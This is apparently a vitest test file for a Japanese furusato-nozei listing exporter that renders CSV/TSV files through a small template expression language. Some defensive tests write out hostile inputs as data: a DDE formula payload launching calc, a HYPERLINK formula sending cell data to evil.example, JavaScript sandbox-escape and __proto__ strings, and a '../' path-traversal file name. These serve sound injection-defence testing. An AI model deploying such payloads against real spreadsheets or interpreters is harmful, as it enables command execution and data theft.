import { parse } from "csv-parse/sync";
import fc from "fast-check";
import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import type { Gift, Listing, Portal } from "../../../common/furusato/types";
import { ValidationError } from "../../platform/errors";
import {
  type ColumnValue,
  type ExportRow,
  exportRowFields,
  expressionFunctions,
  type PortalFileFormat,
  type PortalTemplate,
  parsePortalTemplate,
  portalTemplateSchema,
  renderPortalFile,
} from "./portal-template";

const buildGift = (overrides: Partial<Gift> = {}): Gift => ({
  code: "AB001",
  supplierCode: "AB",
  supplierName: "小倉畜産",
  title: "小倉牛ロースステーキ",
  catchCopy: "市内の牧場で育った小倉牛",
  description: "きめ細かなサシが特長です。",
  contents: "200g×3枚",
  procurementCost: 9000,
  shippingCost: 1500,
  shippingSize: "80",
  temperature: "冷凍",
  handlingNotes: "",
  allergens: { 牛肉: "あり", 小麦: "なし" },
  bestBefore: "冷凍60日",
  originOfIngredients: "福岡県",
  placeOfProcessing: "北九州市",
  applicationPeriod: { from: "2024-04-01", until: null },
  deliveryPeriod: "通年",
  limitedQuantity: null,
  noshi: true,
  wrapping: false,
  imageUrls: ["https://img.example.jp/ab001-1.jpg", "https://img.example.jp/ab001-2.jpg"],
  subscription: null,
  localProductType: "1",
  localProductReason: "市内で肥育された牛肉",
  evidenceCount: 1,
  rawMaterialSamePrefecture: null,
  certifications: [{ name: "特別栽培", validFrom: null, validUntil: null }],
  status: "承認済",
  ...overrides,
});

const portal: Portal = { code: "demo", name: "デモ", feeRatio: 0.1, grantsPoints: false, fieldLimits: { title: 10 }, active: true };

const buildRow = (gift: Partial<Gift> = {}, listing: Partial<Listing> = {}, action: ExportRow["action"] = "upsert"): ExportRow => ({
  gift: buildGift(gift),
  listing: {
    giftCode: "AB001",
    portalCode: "demo",
    donationAmount: 30000,
    titleVariant: "",
    state: "受付中",
    stock: null,
    listingDate: "2024-10-01",
    previousDonationAmount: null,
    ...listing,
  },
  portal,
  action,
});

const utf8File: PortalFileFormat = {
  encoding: "utf-8",
  delimiter: ",",
  lineEnding: "\n",
  quote: "minimal",
  headerLines: [],
  fileName: "out.csv",
};

/** One column, no header line, UTF-8 + LF: the rendered cell text of each row. */
function cells(value: ColumnValue, rows: ExportRow[] = [buildRow()]): string[] {
  const template: PortalTemplate = { file: utf8File, columns: [{ header: "x", value }] };
  const text = new TextDecoder().decode(renderPortalFile(template, rows).bytes);
  return (parse(text, { relax_column_count: false }) as string[][]).map((r) => r[0]);
}
const expr = (source: string, rows?: ExportRow[]) => cells({ expr: source }, rows);

function templateWith(columns: { header: string; value: unknown }[], file: Partial<PortalFileFormat> = {}): unknown {
  return { file: { ...utf8File, ...file }, columns };
}

function errorOf(input: unknown): string {
  try {
    parsePortalTemplate(input);
  } catch (e) {
    expect(e).toBeInstanceOf(ValidationError);
    return (e as Error).message;
  }
  throw new Error("the template was accepted");
}

describe("column values", () => {
  it("takes a field of the export row, a constant, or an expression", () => {
    expect(cells({ field: "gift.title" })).toEqual(["小倉牛ロースステーキ"]);
    expect(cells({ field: "listing.donationAmount" })).toEqual(["30000"]);
    expect(cells({ field: "portal.name" })).toEqual(["デモ"]);
    expect(cells({ const: "固定値" })).toEqual(["固定値"]);
    expect(expr('"【ふるさと納税】" + gift.title')).toEqual(["【ふるさと納税】小倉牛ロースステーキ"]);
  });

  it("writes a missing value as an empty cell and booleans as 1/0", () => {
    expect(cells({ field: "listing.stock" })).toEqual([""]);
    expect(cells({ field: "gift.subscription.schedule" })).toEqual([""]);
    expect(cells({ field: "gift.noshi" })).toEqual(["1"]);
    expect(cells({ field: "gift.wrapping" })).toEqual(["0"]);
  });

  it("reads derived fields: total procurement cost of a 定期便 and the return ratio", () => {
    const row = buildRow({ procurementCost: 3000, subscription: { deliveries: 3, schedule: "毎月" } }, { donationAmount: 30000 });
    expect(cells({ field: "gift.totalProcurementCost" }, [row])).toEqual(["9000"]);
    expect(expr("percent(listing.returnRatio, 1)", [row])).toEqual(["30.0%"]);
    expect(expr('join(gift.allergensPresent, "・") + "/" + gift.allergens.小麦 + "/" + gift.allergens.卵', [row])).toEqual(["牛肉/なし/"]);
  });
});

describe("expression language", () => {
  it("concatenates with + (numbers too, as text: there is no arithmetic)", () => {
    expect(expr('listing.donationAmount + "円"')).toEqual(["30000円"]);
    expect(expr("1 + 2")).toEqual(["12"]);
    expect(expr('("a" + ("b" + "c")) + \'d\'')).toEqual(["abcd"]);
  });

  it("chooses with if() and compares as text with eq()", () => {
    expect(expr('if(eq(action, "stop"), "停止", "掲載")')).toEqual(["掲載"]);
    expect(expr('if(eq(action, "stop"), "停止", "掲載")', [buildRow({}, {}, "stop")])).toEqual(["停止"]);
    expect(expr('if(eq(listing.donationAmount, "30000"), "一致", "不一致")')).toEqual(["一致"]);
    // empty text, 0, false, null and an empty list are false
    expect(expr('if(gift.handlingNotes, "あり", "なし") + if(listing.stock, "あり", "なし") + if(gift.imageUrls, "画像", "")')).toEqual([
      "なしなし画像",
    ]);
  });

  it("formats yen, 和暦 and percentages", () => {
    expect(expr("yen(listing.donationAmount)")).toEqual(["30,000"]);
    expect(expr("yen(listing.donationAmount)", [buildRow({}, { donationAmount: 1234567 })])).toEqual(["1,234,567"]);
    expect(expr("yen(listing.donationAmount)", [buildRow({}, { donationAmount: 999 })])).toEqual(["999"]);
    expect(expr("yen(listing.stock)")).toEqual([""]);
    expect(expr("wareki(listing.listingDate)")).toEqual(["令和6年10月1日"]);
    expect(expr("wareki(listing.listingDate)", [buildRow({}, { listingDate: "2019-05-01" })])).toEqual(["令和元年5月1日"]);
    expect(expr("wareki(gift.applicationPeriod.until)")).toEqual([""]);
    expect(expr("percent(listing.returnRatio, 0)")).toEqual(["30%"]);
  });

  it("joins lists, truncates by characters (𠮷 counts as one), replaces every occurrence", () => {
    expect(expr('join(gift.imageUrls, " ")')).toEqual(["https://img.example.jp/ab001-1.jpg https://img.example.jp/ab001-2.jpg"]);
    expect(expr('join(gift.certifications, "、")')).toEqual(["特別栽培"]);
    expect(expr("truncate(gift.title, 4)")).toEqual(["小倉牛ロ"]);
    expect(expr("truncate(gift.title, 3)", [buildRow({ title: "𠮷野家の牛丼" })])).toEqual(["𠮷野家"]);
    expect(expr("truncate(gift.title, portal.fieldLimits.title)")).toEqual(["小倉牛ロースステーキ"]);
    // no limit set for this field on the portal: nothing is cut
    expect(expr("truncate(gift.catchCopy, portal.fieldLimits.catchCopy)")).toEqual(["市内の牧場で育った小倉牛"]);
    expect(expr('replace(gift.contents, "×", "x")', [buildRow({ contents: "200g×3枚×2箱" })])).toEqual(["200gx3枚x2箱"]);
    expect(expr('replace(gift.description, "\\n", "<br>")', [buildRow({ description: "一行目\n二行目\n三行目" })])).toEqual([
      "一行目<br>二行目<br>三行目",
    ]);
  });

  it("falls back with default() when a value is empty or missing", () => {
    expect(expr("default(listing.titleVariant, gift.title)")).toEqual(["小倉牛ロースステーキ"]);
    expect(expr("default(listing.titleVariant, gift.title)", [buildRow({}, { titleVariant: "楽天向けの名前" })])).toEqual([
      "楽天向けの名前",
    ]);
    expect(expr("default(listing.stock, 9999)")).toEqual(["9999"]);
    expect(expr("default(listing.stock, 9999)", [buildRow({}, { stock: 0 })])).toEqual(["0"]);
  });

  it("escapes HTML with html() and lower-cases with lower()", () => {
    expect(expr("html(gift.title)", [buildRow({ title: `<b>"A&B"</b> 'x'` })])).toEqual([
      "&lt;b&gt;&quot;A&amp;B&quot;&lt;/b&gt; &#39;x&#39;",
    ]);
    expect(expr("lower(gift.code)")).toEqual(["ab001"]);
  });

  it("lists its fields and functions for the template editor", () => {
    expect(exportRowFields().map((f) => f.path)).toEqual(
      expect.arrayContaining(["gift.title", "listing.donationAmount", "portal.name", "action"]),
    );
    expect(expressionFunctions().map((f) => f.name)).toEqual(
      expect.arrayContaining(["if", "eq", "yen", "wareki", "join", "truncate", "replace", "default"]),
    );
  });
});

describe("portalTemplateSchema (the guard for templates made in the UI)", () => {
  it("accepts a valid template", () => {
    const ok = templateWith([{ header: "名前", value: { expr: "default(listing.titleVariant, gift.title)" } }], {
      headerLines: [["名前"]],
    });
    expect(portalTemplateSchema.safeParse(ok).success).toBe(true);
  });

  it("names an unknown field in Japanese and suggests the right one", () => {
    expect(errorOf(templateWith([{ header: "a", value: { field: "gift.titel" } }]))).toMatch(
      /不明な項目です: gift\.titel（もしかして gift\.title）/,
    );
    expect(errorOf(templateWith([{ header: "a", value: { expr: '"x" + title' } }]))).toMatch(
      /7文字目: 不明な項目です: title（もしかして gift\.title）/,
    );
  });

  it("names an unknown function and lists the available ones", () => {
    expect(errorOf(templateWith([{ header: "a", value: { expr: "upper(gift.title)" } }]))).toMatch(
      /不明な関数です: upper\(\)（使える関数: if、eq、yen/,
    );
  });

  it("checks arity and argument types before anything is rendered", () => {
    expect(errorOf(templateWith([{ header: "a", value: { expr: "yen(gift.title)" } }]))).toMatch(
      /yen\(\) の値には数値が必要です（文字列が指定されています）/,
    );
    expect(errorOf(templateWith([{ header: "a", value: { expr: "if(gift.noshi, 'a')" } }]))).toMatch(
      /if\(\) の引数は3個です（2個あります）/,
    );
    expect(errorOf(templateWith([{ header: "a", value: { expr: "wareki(listing.donationAmount)" } }]))).toMatch(
      /wareki\(\) の値には日付か文字列が必要です/,
    );
    expect(errorOf(templateWith([{ header: "a", value: { expr: "gift.noshi + 'x'" } }]))).toMatch(/真偽値は if\(\) で文字列にしてください/);
    expect(errorOf(templateWith([{ header: "a", value: { field: "gift.imageUrls" } }]))).toMatch(/join\(gift\.imageUrls, " "\)/);
    expect(errorOf(templateWith([{ header: "a", value: { expr: "percent(listing.returnRatio, listing.stock)" } }]))).toMatch(
      /小数桁数は 0〜6 の整数/,
    );
  });

  it("reports syntax errors with their position", () => {
    expect(errorOf(templateWith([{ header: "a", value: { expr: '"閉じていない' } }]))).toMatch(
      /1文字目から始まる文字列が閉じられていません/,
    );
    expect(errorOf(templateWith([{ header: "a", value: { expr: "truncate（gift.title, 3）" } }]))).toMatch(
      /式に使えない文字です「（」（半角で入力してください）/,
    );
    expect(errorOf(templateWith([{ header: "a", value: { expr: "gift.title gift.code" } }]))).toMatch(/余分な記述があります/);
    expect(errorOf(templateWith([{ header: "a", value: { expr: "join(gift.imageUrls, " } }]))).toMatch(/式が途中で終わっています/);
    expect(errorOf(templateWith([{ header: "a", value: { expr: "" } }]))).toMatch(/式が空です/);
  });

  it("cannot reach JavaScript: no eval, no prototype walking", () => {
    const attempts = [
      "constructor.constructor('return process')()",
      "process.exit(1)",
      "gift.__proto__",
      "gift.constructor",
      "toString(gift)",
    ];
    for (const source of attempts) {
      expect(portalTemplateSchema.safeParse(templateWith([{ header: "a", value: { expr: source } }])).success, source).toBe(false);
    }
    expect(errorOf(templateWith([{ header: "a", value: { field: "__proto__" } }]))).toMatch(/不明な項目です: __proto__/);
    // An allergen name is free text: a prototype name reads as "not set", never as an inherited property.
    expect(expr('gift.allergens.__proto__ + gift.allergens.toString + "."')).toEqual(["."]);
  });

  it("rejects unknown settings, bad file formats, misaligned or formula-like headers and bad file names", () => {
    const message = errorOf({
      file: { ...utf8File, encoding: "shift_jis", lineEnding: "\r", fileName: "../item.csv", headerLines: [["a", "b"]], extra: true },
      columns: [{ header: "a", value: { const: "" } }],
    });
    expect(message).toMatch(/file\.encoding: 文字コードは cp932・utf-8・utf-8-bom のいずれか/);
    expect(message).toMatch(/file\.lineEnding: 改行コードは CRLF/);
    expect(message).toMatch(/file\.fileName: ファイル名に使えない文字/);
    expect(message).toMatch(/file: 不明な設定項目です: extra/);
    expect(errorOf(templateWith([{ header: "a", value: { const: "" } }], { headerLines: [["a", "b"]] }))).toMatch(
      /見出し行1の列数（2）が列の定義の数（1）と一致しません/,
    );
    expect(errorOf(templateWith([{ header: "a", value: { const: "" } }], { headerLines: [["=cmd|' /C calc'!A0"]] }))).toMatch(
      /= \+ - @ で始められません/,
    );
    expect(errorOf(templateWith([]))).toMatch(/列を1つ以上定義してください/);
    expect(errorOf(templateWith([{ header: "a", value: { field: "gift.title", const: "x" } }]))).toMatch(/どれか1つで指定してください/);
    expect(errorOf(templateWith([{ header: "a", value: { sql: "drop" } }]))).toMatch(/不明な設定項目です: sql/);
  });

  it("keys each message by its path for the template editor", () => {
    try {
      parsePortalTemplate(
        templateWith([
          { header: "a", value: { const: "" } },
          { header: "b", value: { expr: "yen(gift.title)" } },
        ]),
      );
      expect.unreachable();
    } catch (e) {
      expect((e as ValidationError).fields).toEqual({
        "columns.1.value.expr": "1文字目: yen() の値には数値が必要です（文字列が指定されています）",
      });
    }
  });

  it("refuses an invalid template at render time too", () => {
    const bad = templateWith([{ header: "a", value: { field: "gift.nope" } }]) as PortalTemplate;
    expect(() => renderPortalFile(bad, [buildRow()])).toThrow(ValidationError);
  });

  it("turns impossible data into a ValidationError naming the row, column and gift", () => {
    const template = templateWith([{ header: "掲載日", value: { expr: "wareki(listing.listingDate)" } }], {
      headerLines: [["掲載日"]],
    }) as PortalTemplate;
    expect(() => renderPortalFile(template, [buildRow(), buildRow({ code: "AB002" }, { listingDate: "2024-02-30" })])).toThrow(
      /3行目・列「掲載日」（返礼品 AB002）: wareki\(\) の値が日付（YYYY-MM-DD）ではありません: 2024-02-30/,
    );
  });
});

describe("renderPortalFile", () => {
  const twoColumns = (file: Partial<PortalFileFormat>): PortalTemplate => ({
    file: { ...utf8File, headerLines: [["商品名", "説明"]], ...file },
    columns: [
      { header: "商品名", value: { field: "gift.title" } },
      { header: "説明", value: { field: "gift.description" } },
    ],
  });
  const tricky = buildRow({ title: '牛,"特選"', description: "一行目\r\n二行目" });

  it("quotes only cells that need it with quote 'minimal', and every cell with 'all'", () => {
    const minimal = new TextDecoder().decode(
      renderPortalFile(twoColumns({ lineEnding: "\r\n" }), [tricky, buildRow({ description: "" })]).bytes,
    );
    expect(minimal).toBe('商品名,説明\r\n"牛,""特選""","一行目\r\n二行目"\r\n小倉牛ロースステーキ,\r\n');
    const all = new TextDecoder().decode(
      renderPortalFile(twoColumns({ lineEnding: "\r\n", quote: "all" }), [buildRow({ description: "" })]).bytes,
    );
    expect(all).toBe('"商品名","説明"\r\n"小倉牛ロースステーキ",""\r\n');
  });

  it("writes TSV with tabs quoted and a bare CR quoted even with LF line endings", () => {
    const text = new TextDecoder().decode(
      renderPortalFile(twoColumns({ delimiter: "\t" }), [buildRow({ title: "タブ\tあり", description: "CRだけ\rの説明" })]).bytes,
    );
    expect(text).toBe('商品名\t説明\n"タブ\tあり"\t"CRだけ\rの説明"\n');
  });

  it("writes several header lines verbatim, or none", () => {
    const template = twoColumns({
      headerLines: [
        ["商品名", "説明"],
        ["必須", "任意（1000文字まで）"],
      ],
    });
    expect(new TextDecoder().decode(renderPortalFile(template, [buildRow()]).bytes)).toBe(
      "商品名,説明\n必須,任意（1000文字まで）\n小倉牛ロースステーキ,きめ細かなサシが特長です。\n",
    );
    expect(new TextDecoder().decode(renderPortalFile(twoColumns({ headerLines: [] }), [buildRow()]).bytes)).toBe(
      "小倉牛ロースステーキ,きめ細かなサシが特長です。\n",
    );
    expect(renderPortalFile(twoColumns({ headerLines: [] }), []).bytes).toHaveLength(0);
  });

  it("neutralises formula injection in every data cell, but not typed numbers", () => {
    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81-93", "-1", "@SUM(A1:A2)", "\t=1+1"];
    const rows = attacks.map((a) => buildRow({ title: a }));
    expect(cells({ field: "gift.title" }, rows)).toEqual(attacks.map((a) => `'${a}`));
    expect(cells({ const: "=1+1" })).toEqual(["'=1+1"]);
    expect(cells({ field: "listing.donationAmount" }, [buildRow({}, { donationAmount: -500 })])).toEqual(["-500"]);
  });

  it("writes UTF-8 with a BOM when asked", () => {
    const { bytes } = renderPortalFile(twoColumns({ encoding: "utf-8-bom" }), [buildRow()]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.subarray(3)).startsWith("商品名,説明\n")).toBe(true);
  });

  it("writes CP932 with 〜 − mapped to ～ －, and reports 𠮷 instead of writing '?'", () => {
    const { bytes, unencodable } = renderPortalFile(twoColumns({ encoding: "cp932" }), [
      buildRow({ title: "あまおう 〜博多の苺〜", description: "糖度−2度" }),
      buildRow({ code: "AB002", title: "𠮷田さんの米", description: "問題なし" }),
    ]);
    const text = iconv.decode(Buffer.from(bytes), "cp932");
    expect(text).toBe("商品名,説明\nあまおう ～博多の苺～,糖度－2度\n〓田さんの米,問題なし\n");
    expect(text).not.toContain("?");
    // ～ is 0x8160 in CP932
    expect(Buffer.from(bytes).includes(Buffer.from([0x81, 0x60]))).toBe(true);
    expect(unencodable).toEqual([{ row: 3, column: 1, char: "𠮷", header: "商品名", giftCode: "AB002" }]);
  });

  it("finds the right row when earlier cells span several lines, and reports ¥ (CP932 would turn it into a backslash)", () => {
    const rows = [
      buildRow({ code: "AB001", description: "一行目\n二行目\n三行目" }),
      buildRow({ code: "AB002", description: "ここは\n大丈夫" }),
      buildRow({ code: "AB003", description: "二行目に\n𠮷と¥" }),
      buildRow({ code: "AB004", title: "髙島屋の羊羹" }), // 髙 is in CP932 (IBM extension): not reported
    ];
    const { bytes, unencodable } = renderPortalFile(twoColumns({ encoding: "cp932", lineEnding: "\r\n" }), rows);
    expect(unencodable).toEqual([
      { row: 4, column: 2, char: "𠮷", header: "説明", giftCode: "AB003" },
      { row: 4, column: 2, char: "¥", header: "説明", giftCode: "AB003" },
    ]);
    const read = parse(iconv.decode(Buffer.from(bytes), "cp932")) as string[][];
    expect(read.map((r) => r[1])).toEqual([
      "説明",
      "一行目\n二行目\n三行目",
      "ここは\n大丈夫",
      "二行目に\n〓と〓",
      "きめ細かなサシが特長です。",
    ]);
    expect(read[4][0]).toBe("髙島屋の羊羹");
  });

  it("reports a lone surrogate in UTF-8 output instead of writing U+FFFD silently", () => {
    const { bytes, unencodable } = renderPortalFile(twoColumns({}), [buildRow({ title: "壊れた\uD842文字" })]);
    expect(unencodable).toEqual([{ row: 2, column: 1, char: "\uD842", header: "商品名", giftCode: "AB001" }]);
    expect(new TextDecoder().decode(bytes)).toContain("壊れた〓文字");
  });

  it("round-trips any text through a CSV/TSV reader, whatever the quoting and line ending (property)", () => {
    const text = fc.string({ unit: fc.constantFrom("a", "あ", ",", '"', "\t", "\r", "\n", " ", "=", "-", "𠮷"), maxLength: 12 });
    fc.assert(
      fc.property(
        fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }),
        fc.constantFrom<"," | "\t">(",", "\t"),
        fc.constantFrom<"\r\n" | "\n">("\r\n", "\n"),
        fc.constantFrom<"minimal" | "all">("minimal", "all"),
        (pairs, delimiter, lineEnding, quote) => {
          const rows = pairs.map(([title, description]) => buildRow({ title, description }));
          const out = new TextDecoder().decode(renderPortalFile(twoColumns({ delimiter, lineEnding, quote }), rows).bytes);
          const read = parse(out, { delimiter, record_delimiter: lineEnding, relax_column_count: false }) as string[][];
          const guard = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
          expect(read).toEqual([["商品名", "説明"], ...pairs.map(([t, d]) => [guard(t), guard(d)])]);
        },
      ),
      { numRuns: 300 },
    );
  });
});
